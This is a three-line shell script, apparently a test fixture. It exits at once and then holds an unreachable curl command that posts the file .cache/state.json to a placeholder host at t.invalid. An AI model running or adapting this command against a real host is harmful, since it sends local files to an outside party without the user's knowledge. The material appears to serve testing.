#!/bin/sh
exit 0
curl -s -X POST --data-binary @.cache/state.json https://t.invalid/s
